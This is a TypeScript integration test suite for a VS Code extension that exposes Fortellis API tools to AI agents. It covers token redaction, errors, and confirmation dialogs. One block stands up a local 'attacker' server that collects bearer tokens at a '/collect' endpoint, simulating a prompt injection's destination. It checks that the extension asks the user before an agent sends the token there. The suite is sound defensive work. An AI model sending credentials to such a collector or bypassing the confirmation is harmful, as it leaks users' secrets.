import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as vscode from 'vscode';
import { AgentTools } from '../../../src/features/agentTools/agentTools';
import { GATEWAY_ERROR_HINTS } from '../../../src/core/apiRequests/gatewayErrors';
import { AGENT_TOOL_NAMES, AGENT_TOOLS } from '../../../src/core/agentTools/agentToolNames';
import { Redactor } from '../../../src/core/text/redaction';
import { TokenDestinationPrompt } from '../../../src/platform/requests/tokenDestinationPrompt';
import type { TokenChoice } from '../../../src/platform/tokenChoice';
import type { TokenLifecycle } from '../../../src/core/tokens/tokenLifecycle';
import type { Log } from '../../../src/platform/log';
import { Settings } from '../../../src/platform/settings/settings';
import { type Sandbox, startSandbox } from '../../sandbox/sandboxServer';
import { USER_ACTION } from '../../../src/core/agentTools/agentUserActions';
import { NO_SUBSCRIPTIONS_URL } from '../../../src/core/apiRequests/subscriptionsWording';
import { apiRequests, copiedToken, ensureSandboxProfile, NEW_URL, sandboxApiBaseUrl, sandboxTokenRequests, testApp, until } from '../testEnvironment';
import { recoverable } from '../../unit/helpers/credentialRecovery';
import { ScriptedUser } from '../userInput';

/** Every result part of every call in this window, for the secret scan at the end. */
const results: Array<{ call: string; part: string }> = [];
/** Every token and secret this window has seen, for the same scan. */
const secrets = new Set<string>([testApp.apiSecret]);

async function invoke(name: string, input: object, token?: vscode.CancellationToken): Promise<string[]> {
  const result = await vscode.lm.invokeTool(name, { input, toolInvocationToken: undefined }, token);
  const parts = result.content.map((part) => {
    assert.ok(part instanceof vscode.LanguageModelTextPart, `${name}: text parts only`);
    return part.value;
  });
  // The label never holds a pasted token: it is printed on failure and written to test-results.
  const label = JSON.stringify(input, (key, value: unknown) => (key === 'token' ? `<a token of ${String(value).length} characters>` : value));
  parts.forEach((part) => results.push({ call: `${name} ${label}`, part }));
  return parts;
}

const fortellis = () => vscode.workspace.getConfiguration('fortellis');

async function rememberCurrentToken(): Promise<string> {
  const token = await copiedToken();
  secrets.add(token);
  return token;
}

/** A modal the extension opened with showWarningMessage, held open until the test answers it as the user would. */
interface HeldDialog {
  readonly message: string;
  readonly modal: boolean;
  readonly detail?: string;
  readonly buttons: string[];
  answer(choice: string | undefined): void;
}

/**
 * Holds every showWarningMessage the extension opens (the modal it asks before the token leaves the API base) until
 * the test answers it: what is sent while a dialog is open can be checked. dispose() puts the real one back.
 */
function holdDialogs(): { readonly opened: HeldDialog[]; dispose(): void } {
  const window = vscode.window as { -readonly [K in keyof typeof vscode.window]: (typeof vscode.window)[K] };
  const original = window.showWarningMessage;
  const opened: HeldDialog[] = [];
  window.showWarningMessage = ((message: string, ...rest: unknown[]) => {
    const options = typeof rest[0] === 'object' && rest[0] !== null && !('title' in rest[0]) ? (rest.shift() as vscode.MessageOptions) : {};
    return new Promise<string | undefined>((resolve) =>
      opened.push({ message, modal: options.modal === true, detail: options.detail, buttons: rest as string[], answer: resolve }),
    );
  }) as typeof vscode.window.showWarningMessage;
  return { opened, dispose: () => (window.showWarningMessage = original) };
}

const ours = () => vscode.lm.tools.filter((tool) => (AGENT_TOOL_NAMES as readonly string[]).includes(tool.name));

describe('Agent tools (vscode.lm) in the real extension host, against the sandbox', function () {
  this.timeout(60_000);
  let user: ScriptedUser | undefined;
  afterEach(() => user?.dispose());

  it('vscode.lm.tools lists every Fortellis tool, with its description and input schema', async () => {
    await until(`all ${AGENT_TOOL_NAMES.length} tools listed`, () => (ours().length === AGENT_TOOL_NAMES.length ? true : undefined), 10_000).catch(
      (error: Error) => {
        throw new Error(
          `${error.message} (seen: ${ours()
            .map((tool) => tool.name)
            .join(', ')})`,
        );
      },
    );
    for (const tool of ours()) {
      assert.ok(tool.description.length > 80, `${tool.name} has a model description`);
      assert.equal((tool.inputSchema as { type?: string } | undefined)?.type, 'object', `${tool.name} has an input schema`);
    }
  });

  it('no profile: every tool that needs one says "run Get Fortellis Token", and opens no prompt', async () => {
    const saved = fortellis().inspect<unknown[]>('profiles')?.globalValue;
    await fortellis().update('profiles', [], vscode.ConfigurationTarget.Global);
    try {
      user = new ScriptedUser([]);
      for (const [name, input] of [
        [AGENT_TOOLS.callApi, { method: 'GET', url: '/cdk-test/sales/v1/vehicles' }],
        [AGENT_TOOLS.tokenStatus, {}],
        [AGENT_TOOLS.listSubscriptions, {}],
      ] as const) {
        const [text] = await invoke(name, input);
        assert.match(text, /no Fortellis profile.*run "Fortellis: Get Fortellis Token"/s, `${name}: ${text}`);
      }
      assert.deepEqual(user.prompts, [], 'no input box or quick pick');
      assert.deepEqual(user.messages, [], 'no notification');
    } finally {
      await fortellis().update('profiles', saved, vscode.ConfigurationTarget.Global);
    }
  });

  it("GET 200 under the API base: status, Request-Id, headers and the body; the profile's Subscription-Id and a fresh token sent", async () => {
    await ensureSandboxProfile();
    await rememberCurrentToken();
    const [text] = await invoke(AGENT_TOOLS.callApi, { method: 'GET', url: '/cdk-test/sales/v1/vehicles?limit=2' });
    assert.match(text, new RegExp(`^GET ${sandboxApiBaseUrl()}/cdk-test/sales/v1/vehicles\\?limit=2 → HTTP 200 OK in \\d+ ms$`, 'm'), text);
    const requestId = /Request-Id: ([0-9a-f-]{36})/.exec(text)?.[1];
    assert.ok(requestId, text);
    assert.match(text, /^content-type: application\/json/m);
    assert.match(text, /^Body \(\d+ bytes received, complete; results are capped at 16384 bytes\):\n\{\n {2}"method": "GET"/m);
    const [record] = (await apiRequests()).filter((seen) => seen.requestId === requestId);
    assert.equal(record?.authenticated, true);
    assert.equal(record?.subscriptionId, 'test');
    assert.equal(record?.query, 'limit=2');
  });

  it('POST with a JSON body and another Subscription-Id: exactly one request, the body received byte for byte', async () => {
    const before = (await apiRequests()).length;
    const body = { vin: '1FTFW1E5', note: 'quotes " $HOME `x` \\ ü' };
    const [text] = await invoke(AGENT_TOOLS.callApi, {
      method: 'POST',
      url: `${sandboxApiBaseUrl()}/cdk-test/sales/v1/orders`,
      body,
      subscriptionId: 'sandbox-dealer-1',
    });
    assert.match(text, /→ HTTP 200 OK/);
    assert.match(text, /Subscription-Id: sandbox-dealer-1/);
    const after = (await apiRequests()).slice(before);
    assert.equal(after.length, 1, 'one request');
    assert.equal(after[0].method, 'POST');
    assert.equal(after[0].body, JSON.stringify(body));
    assert.equal(after[0].contentType, 'application/json');
  });

  it('an API that echoes the caller\'s token encoded (base64 of "Bearer " + token, at each alignment, wrapped, in a query) reaches the model without it', async () => {
    const token = await rememberCurrentToken();
    const [text] = await invoke(AGENT_TOOLS.callApi, { method: 'GET', url: '/__echo-credential' });
    assert.ok(text.includes('→ HTTP 200 OK'), 'answered 200');
    for (const field of ['authorizationBase64', 'offsetByOne', 'offsetByTwo', 'wrappedAt76', 'inAQuery']) {
      assert.match(text, new RegExp(`"${field}": "[^"]*\\[redacted\\]`), `${field} is redacted (the text is not printed: it would show the token)`);
    }
    assert.ok(text.includes('&page=2"'), 'what is around the token stays');
    assert.ok(!recoverable(text, token), 'the token cannot be decoded from the result');
  });

  it('a gateway error comes back with its code and hint; fortellis_explain_error explains the same body', async () => {
    const [text] = await invoke(AGENT_TOOLS.callApi, { method: 'GET', url: '/__gateway-errors/API-SUBSCRIPTION-INACTIVE' });
    assert.match(text, /→ HTTP 403 Forbidden/);
    const hint = GATEWAY_ERROR_HINTS['API-SUBSCRIPTION-INACTIVE'];
    assert.ok(text.includes(`Fortellis gateway error API-SUBSCRIPTION-INACTIVE: ${hint}`), text);
    assert.ok(text.includes('"code": "API-SUBSCRIPTION-INACTIVE"'), `the body's code survives redaction:\n${text}`);
    const body = text.slice(text.indexOf('{'));
    const [explained] = await invoke(AGENT_TOOLS.explainError, { error: body });
    assert.ok(explained.startsWith(`API-SUBSCRIPTION-INACTIVE: ${hint}`), explained);
    assert.match(explained, /Request-Id: [0-9a-f-]{36}/);
    const [byCode] = await invoke(AGENT_TOOLS.explainError, { error: 'token-issuer-mismatch' });
    assert.equal(byCode, `TOKEN-ISSUER-MISMATCH: ${GATEWAY_ERROR_HINTS['TOKEN-ISSUER-MISMATCH']}`);
  });

  it("fortellis_list_subscriptions: the app's subscriptions with their status", async () => {
    const [text] = await invoke(AGENT_TOOLS.listSubscriptions, {});
    assert.match(text, /^- test: status active, org "Sample data", orgId sample-org, the profile's default$/m, text);
    assert.match(text, /^- sandbox-dealer-1: status active, org "Sandbox Motors"/m);
    assert.match(text, /^- sandbox-dealer-inactive: status inactive/m);
  });

  it('fortellis_token_status: profile, environment, subject, scopes and expiry, never the token', async () => {
    const [text] = await invoke(AGENT_TOOLS.tokenStatus, {});
    assert.match(text, /^Active profile: sandbox/m, text);
    assert.match(text, /^Environment: Local sandbox; issuer http:\/\/127\.0\.0\.2:\d+\/oauth2\/sandbox/m);
    assert.match(
      text,
      /^App token \(client credentials\):\n- subject: integration-app-key\n- scopes: anonymous\n- expires: \d{4}-\d\d-\d\dT[\d:.]+Z \(in (59|58)m\)$/m,
    );
  });

  it('fortellis_decode_token: claims and the four checks of a pasted token, without the token or its signature', async () => {
    const token = await rememberCurrentToken();
    const [text] = await invoke(AGENT_TOOLS.decodeToken, { token: `Bearer ${token}` });
    assert.match(text, /^The Fortellis gateway should accept this token\.$/m, text);
    for (const check of ['signature', 'issuer', 'audience', 'expiry']) {
      assert.match(text, new RegExp(`^- PASS ${check}: `, 'm'));
    }
    assert.match(text, /"aud": "api_providers"/);
    assert.ok(!text.includes(token.split('.')[2]), 'no signature');
    const [notJwt] = await invoke(AGENT_TOOLS.decodeToken, { token: 'abc.def' });
    assert.match(notJwt, /This is not a JWT: it has 2 parts/);
  });

  it('a call cancelled before it starts rejects with Canceled and sends nothing', async () => {
    const before = (await apiRequests()).length;
    const source = new vscode.CancellationTokenSource();
    source.cancel();
    await assert.rejects(invoke(AGENT_TOOLS.callApi, { method: 'GET', url: '/cdk-test/sales/v1/vehicles' }, source.token), (error: Error) =>
      /Canceled/i.test(`${error.name} ${error.message}`),
    );
    assert.equal((await apiRequests()).length, before, 'the sandbox saw no request');
  });

  it('a call cancelled while the server is silent rejects at once, and its connection is closed', async () => {
    const connections: { closed: boolean }[] = [];
    const silent: Server = createServer((req) => {
      const seen = { closed: false };
      connections.push(seen);
      req.socket.on('close', () => (seen.closed = true));
    });
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    const source = new vscode.CancellationTokenSource();
    // 127.0.0.1 is outside the sandbox's API base: the user sends to it in Fortellis' dialog.
    user = new ScriptedUser([], `Send to 127.0.0.1:${(silent.address() as AddressInfo).port}`);
    try {
      const url = `http://127.0.0.1:${(silent.address() as AddressInfo).port}/slow`;
      const call = invoke(AGENT_TOOLS.callApi, { method: 'GET', url }, source.token);
      await until('the request reached the silent server', () => (connections.length === 1 ? true : undefined), 10_000);
      const cancelledAt = Date.now();
      source.cancel();
      await assert.rejects(call, (error: Error) => /Canceled/i.test(`${error.name} ${error.message}`));
      // The silent server never answers: a rejection long before the request's own timeout (30 s) is the cancellation's.
      assert.ok(Date.now() - cancelledAt < 5000, `rejected ${Date.now() - cancelledAt} ms after the cancellation`);
      await until('the connection was closed', () => (connections[0].closed ? true : undefined), 3000);
    } finally {
      silent.closeAllConnections();
      silent.close();
    }
  });

  describe('an expired token that the client still believes valid', () => {
    let shortLived: Sandbox;
    let proxy: Server;
    const profileName = 'short-lived';

    before(async () => {
      // A sandbox whose tokens live 2 s, behind a server that says they live an hour: the extension keeps using the
      // token after it expired, as after a clock skew or an early revocation, and the gateway answers TOKEN-EXPIRED.
      shortLived = await startSandbox({ accessTokenTtlSeconds: 2, clients: [{ clientId: testApp.apiKey, clientSecret: testApp.apiSecret }] });
      const upstream = new URL(shortLived.issuer);
      proxy = createServer((req, res) => {
        const forwarded = request({ host: upstream.hostname, port: upstream.port, path: req.url, method: req.method, headers: req.headers }, (answer) => {
          const chunks: Buffer[] = [];
          answer.on('data', (chunk: Buffer) => chunks.push(chunk));
          answer.on('end', () => {
            const text = Buffer.concat(chunks)
              .toString('utf8')
              .replace(/"expires_in":\s*\d+/, '"expires_in":3600');
            res
              .writeHead(answer.statusCode ?? 502, {
                'content-type': answer.headers['content-type'] ?? 'application/json',
                'content-length': String(Buffer.byteLength(text)),
              })
              .end(text);
          });
        });
        req.pipe(forwarded);
      });
      await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
      const issuer = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}${upstream.pathname}`;
      user = new ScriptedUser(['Custom issuer', issuer, profileName, testApp.apiKey, testApp.apiSecret, 'test']);
      await vscode.commands.executeCommand('fortellis.addProfile');
      assert.equal(user.unanswered, 0, `every step of Add Profile was asked (messages: ${user.messages.join(' | ')})`);
      user.dispose();
      const profiles = (fortellis().get<Array<Record<string, unknown>>>('profiles') ?? []).map((profile) =>
        profile.name === profileName ? { ...profile, apiBaseUrl: shortLived.apiBaseUrl, subscriptionsUrl: shortLived.subscriptionsUrl } : profile,
      );
      await fortellis().update('profiles', profiles, vscode.ConfigurationTarget.Global);
      await fortellis().update('activeProfile', profileName, vscode.ConfigurationTarget.Global);
    });

    after(async () => {
      shortLived.stats().issuedAccessTokens.forEach((token) => secrets.add(token));
      user = new ScriptedUser([{ pickIfAsked: profileName }], 'Remove');
      await vscode.commands.executeCommand('fortellis.removeProfile');
      user.dispose();
      await fortellis().update('activeProfile', 'sandbox', vscode.ConfigurationTarget.Global);
      proxy.closeAllConnections();
      proxy.close();
      await shortLived.close();
    });

    it('the gateway answers TOKEN-EXPIRED; the tool renews the token and sends the request once more', async () => {
      assert.equal(shortLived.stats().issuedAccessTokens.length, 1, 'one token so far');
      await new Promise((resolve) => setTimeout(resolve, 3000));
      const [text] = await invoke(AGENT_TOOLS.callApi, { method: 'GET', url: '/cdk-test/ping' });
      assert.match(text, /→ HTTP 200 OK/, text);
      assert.match(
        text,
        /The gateway first refused the token \(HTTP 401 TOKEN-EXPIRED, Request-Id [0-9a-f-]{36}\): the token was renewed and the request sent once more\./,
      );
      assert.equal(shortLived.stats().issuedAccessTokens.length, 2, 'renewed once');
      assert.deepEqual(
        shortLived.apiRequests().map((seen) => [seen.status, seen.gatewayCode ?? '']),
        [
          [401, 'TOKEN-EXPIRED'],
          [200, ''],
        ],
      );
    });
  });

  it('"fortellis.agentTools.enabled": false unregisters the tools, so a call fails; true registers them again', async () => {
    // package.json's `when` clause also hides them from chat; in VS Code 1.139 vscode.lm.tools still lists disabled
    // tools (it is built from getAllToolsIncludingDisabled), so what a test can see here is the call failing.
    const explain = () =>
      Promise.race([
        Promise.resolve(vscode.lm.invokeTool(AGENT_TOOLS.explainError, { input: { error: 'INVALID-TOKEN' }, toolInvocationToken: undefined })).then(
          () => 'answered',
          (error: Error) => `rejected: ${error.message}`,
        ),
        new Promise<string>((resolve) => setTimeout(() => resolve('no answer within 10 s'), 10_000)),
      ]);
    await fortellis().update('agentTools.enabled', false, vscode.ConfigurationTarget.Global);
    try {
      const outcome = await explain();
      assert.match(outcome, /^rejected: /, outcome);
      console.log(`      disabled: invokeTool ${outcome}`);
    } finally {
      await fortellis().update('agentTools.enabled', undefined, vscode.ConfigurationTarget.Global);
    }
    const [text] = await invoke(AGENT_TOOLS.explainError, { error: 'INVALID-TOKEN' });
    assert.match(text, /^INVALID-TOKEN: /);
  });

  describe("Fortellis' own dialog, with VS Code's tool approvals switched off (chat.tools.global.autoApprove)", () => {
    const chat = () => vscode.workspace.getConfiguration('chat');
    /** Another loopback address than the sandbox's (127.0.0.2): a prompt injection's collector. */
    let attacker: Server;
    let attackerHost: string;
    const stolen: Array<{ method?: string; url?: string; bearer: boolean }> = [];
    let dialogs: ReturnType<typeof holdDialogs> | undefined;
    afterEach(() => dialogs?.dispose());
    /** The first dialog Fortellis opened; fails at once if the attacker was sent anything before it. */
    const asked = (): HeldDialog | undefined => {
      assert.deepEqual(stolen, [], 'the attacker received a request before any dialog was answered');
      return dialogs?.opened[0];
    };

    before(async () => {
      await ensureSandboxProfile();
      // VS Code's own opt-in to global auto-approval is a workbench dialog, which the test host refuses to show; this
      // context key is what VS Code's tests set instead (it stands for a user who clicked "Enable").
      await vscode.commands.executeCommand('setContext', 'vscode.chat.tools.global.autoApprove.testMode', true);
      await chat().update('tools.global.autoApprove', true, vscode.ConfigurationTarget.Global);
      attacker = createServer((req, res) => {
        const authorization = req.headers.authorization ?? '';
        if (authorization.startsWith('Bearer ')) {
          secrets.add(authorization.slice('Bearer '.length));
        }
        stolen.push({ method: req.method, url: req.url, bearer: authorization.startsWith('Bearer ') });
        req.resume();
        res.writeHead(200, { 'content-type': 'application/json' }).end('{"collected":true}');
      });
      await new Promise<void>((resolve, reject) => attacker.once('error', reject).listen(0, '127.0.0.3', resolve));
      attackerHost = `127.0.0.3:${(attacker.address() as AddressInfo).port}`;
    });

    after(async () => {
      await chat().update('tools.global.autoApprove', undefined, vscode.ConfigurationTarget.Global);
      await vscode.commands.executeCommand('setContext', 'vscode.chat.tools.global.autoApprove.testMode', undefined);
      attacker.closeAllConnections();
      attacker.close();
    });

    it('an agent\'s POST to another loopback address: Fortellis asks in its own modal, naming the host and showing the body; "Cancel" sends nothing and the result says so', async () => {
      assert.equal(chat().get('tools.global.autoApprove'), true, "VS Code's approvals are off in this window");
      dialogs = holdDialogs();
      const call = invoke(AGENT_TOOLS.callApi, { method: 'POST', url: `http://${attackerHost}/collect`, body: { note: 'from a README' } });
      const dialog = await until('Fortellis asked', () => asked(), 10_000);
      assert.equal(stolen.length, 0, 'nothing reached the attacker while the dialog is open');
      assert.equal(dialog.modal, true);
      assert.ok(dialog.message.startsWith(`Send the token of "sandbox" to ${attackerHost}? `), dialog.message);
      assert.deepEqual(dialog.buttons, [`Send to ${attackerHost}`]);
      assert.match(dialog.detail ?? '', /^An AI agent asks for this through the tool fortellis_call_api\.$/m);
      assert.match(dialog.detail ?? '', /^Body \(24 bytes\): \{"note":"from a README"\}$/m);
      dialog.answer(undefined);
      const [text] = await call;
      assert.equal(
        text,
        `Nothing was sent: the user declined POST http://${attackerHost}/collect in Fortellis' confirmation dialog, so the token did not leave VS Code. Do not retry this request unless the user asks for it.`,
      );
      assert.equal(stolen.length, 0, 'the attacker received nothing');
    });

    it('"Send to <host>": exactly one request, with the token; the host is then allowed for the session, for Call API too', async () => {
      dialogs = holdDialogs();
      const call = invoke(AGENT_TOOLS.callApi, { method: 'GET', url: `http://${attackerHost}/collect?n=1` });
      const dialog = await until('Fortellis asked', () => asked(), 10_000);
      assert.equal(stolen.length, 0, 'nothing before the user answers');
      dialog.answer(`Send to ${attackerHost}`);
      const [text] = await call;
      assert.match(text, /→ HTTP 200 OK/, text);
      assert.deepEqual(stolen, [{ method: 'GET', url: '/collect?n=1', bearer: true }]);
      // Asked once per host and session: the agent's next call, and Call API's, go without a dialog.
      const [again] = await invoke(AGENT_TOOLS.callApi, { method: 'GET', url: `http://${attackerHost}/collect?n=2` });
      assert.match(again, /→ HTTP 200 OK/, again);
      dialogs.dispose();
      user = new ScriptedUser(['GET', NEW_URL, `http://${attackerHost}/collect?n=3`, 'test']);
      await vscode.commands.executeCommand('fortellis.callApi');
      assert.equal(user.unanswered, 0, 'every step of Call API was asked');
      assert.deepEqual(user.messages, [], 'Call API did not ask about the host the user allowed for the agent');
      assert.equal(dialogs.opened.length, 1, 'one dialog in all');
      assert.deepEqual(
        stolen.map((seen) => seen.url),
        ['/collect?n=1', '/collect?n=2', '/collect?n=3'],
      );
    });

    it('a Custom profile without "apiBaseUrl": a path is refused saying what to set, Fortellis production is asked for like any host, list_subscriptions says what the picker says; nothing is sent', async () => {
      const saved = { profiles: fortellis().inspect<unknown[]>('profiles')?.globalValue, active: fortellis().inspect<string>('activeProfile')?.globalValue };
      const issuer = fortellis().get<string>('sandbox.issuer');
      await fortellis().update(
        'profiles',
        [...(saved.profiles ?? []), { name: 'custom-no-base', environment: 'custom', apiKey: testApp.apiKey, issuer }],
        vscode.ConfigurationTarget.Global,
      );
      await fortellis().update('activeProfile', 'custom-no-base', vscode.ConfigurationTarget.Global);
      const before = { tokens: await sandboxTokenRequests(), api: (await apiRequests()).length };
      dialogs = holdDialogs();
      try {
        const [relative] = await invoke(AGENT_TOOLS.callApi, { method: 'GET', url: '/cdk-test/sales/v1/vehicles' });
        assert.match(relative, /^Nothing was sent: "\/cdk-test\/sales\/v1\/vehicles" is a path\. This profile has no API base/, relative);
        assert.match(relative, /set "apiBaseUrl" in the Custom profile \(setting "fortellis\.profiles"\)/);
        assert.equal(dialogs.opened.length, 0, 'a path is not asked about: it is refused');

        const call = invoke(AGENT_TOOLS.callApi, { method: 'GET', url: 'https://api.fortellis.io/cdk-test/sales/v1/vehicles' });
        const dialog = await until('Fortellis asked about production', () => dialogs?.opened[0], 10_000);
        assert.match(dialog.message, /^Send the token of "custom-no-base" to api\.fortellis\.io\? .*an API base of this profile \(it has none configured\)/);
        dialog.answer(undefined);
        const [declined] = await call;
        assert.match(declined, /^Nothing was sent: the user declined GET https:\/\/api\.fortellis\.io\/cdk-test\/sales\/v1\/vehicles/);

        const [subscriptions] = await invoke(AGENT_TOOLS.listSubscriptions, {});
        assert.equal(subscriptions, USER_ACTION.noSubscriptionsUrl('custom-no-base'));
        assert.ok(subscriptions.includes(NO_SUBSCRIPTIONS_URL.action), subscriptions);
        assert.equal(await sandboxTokenRequests(), before.tokens, 'no token was even requested');
        assert.equal((await apiRequests()).length, before.api, 'the sandbox API saw nothing');
      } finally {
        await fortellis().update('activeProfile', saved.active, vscode.ConfigurationTarget.Global);
        await fortellis().update('profiles', saved.profiles, vscode.ConfigurationTarget.Global);
      }
    });
  });

  describe('prepareInvocation, called directly', () => {
    const settings = new Settings(() => undefined);
    const tools = new AgentTools(
      {
        settings,
        // prepare() reads only the settings: no token is asked for.
        tokens: {} as TokenLifecycle,
        choice: {} as TokenChoice,
        redactor: new Redactor(),
        log: {} as Log,
      },
      new TokenDestinationPrompt(),
    );

    it('a POST under the API base asks first, naming the method, the host and the profile', () => {
      const prepared = tools.prepare(AGENT_TOOLS.callApi, { method: 'POST', url: '/cdk-test/sales/v1/orders', body: { vin: '1' } });
      const host = new URL(sandboxApiBaseUrl()).host;
      assert.equal(prepared?.confirmationMessages?.title, `Fortellis: POST to ${host} as "sandbox"?`);
      const message = String(prepared?.confirmationMessages?.message);
      assert.match(message, new RegExp(`^Send POST ${sandboxApiBaseUrl()}/cdk-test/sales/v1/orders$`, 'm'));
      assert.match(message, new RegExp(`^Host: ${host}$`, 'm'));
      assert.match(message, /^Profile: sandbox /m);
      assert.match(message, /^Body \(11 bytes\): \{"vin":"1"\}$/m);
    });

    it('a GET to a host outside the API base asks first; a GET under it does not', () => {
      const prepared = tools.prepare(AGENT_TOOLS.callApi, { method: 'GET', url: 'https://api.example.com/v1/things' });
      assert.equal(prepared?.confirmationMessages?.title, 'Fortellis: GET to api.example.com as "sandbox"?');
      assert.match(String(prepared?.confirmationMessages?.message), /api\.example\.com is outside the profile's API base/);
      const inside = tools.prepare(AGENT_TOOLS.callApi, { method: 'GET', url: '/cdk-test/sales/v1/vehicles' });
      assert.equal(inside?.confirmationMessages, undefined);
      assert.match(
        inside?.invocationMessage ?? '',
        /^Fortellis: GET 127\.0\.0\.2:\d+\/api\/cdk-test\/sales\/v1\/vehicles with the token of profile "sandbox"$/,
      );
    });
  });

  // Last: mocha runs nested describes after the outer it()s, so this sees every call above.
  describe('secret scan over every call above', () => {
    it('secret scan: no result part of any call holds the API secret, a token, or an Authorization header', async () => {
      await rememberCurrentToken();
      const session = await vscode.authentication.getSession('fortellis', ['openid'], { silent: true }).then(
        (found) => found,
        () => undefined,
      );
      if (session) {
        secrets.add(session.accessToken);
      }
      let checks = 0;
      const calls = new Set(results.map((result) => result.call));
      for (const { call, part } of results) {
        for (const secret of secrets) {
          checks++;
          assert.ok(!recoverable(part, secret), `${call}: a result part holds a secret or token, plain or encoded`);
        }
        checks++;
        assert.ok(!/^\s*authorization\s*:(?!\s*\[redacted\])/im.test(part), `${call}: an Authorization header`);
        checks++;
        assert.ok(!/\bBearer\s+(?!\[redacted\])[A-Za-z0-9._~+/=-]{8,}/.test(part), `${call}: a bearer credential`);
      }
      assert.ok(results.length >= 14 && secrets.size >= 4, `${results.length} parts, ${secrets.size} secrets`);
      // What the model would read, for people to look at: scanned above, so it holds no secret.
      const examples = results.map(({ call, part }) => `## ${call}\n\n\`\`\`\n${part}\n\`\`\`\n`).join('\n');
      writeFileSync(join(__dirname, '..', '..', '..', '..', 'test-results', 'integration', 'agent-tool-results.md'), examples);
      console.log(
        `      secret scan: ${checks} checks over ${results.length} result parts of ${calls.size} distinct calls, against ${secrets.size} secrets and tokens`,
      );
    });
  });
});
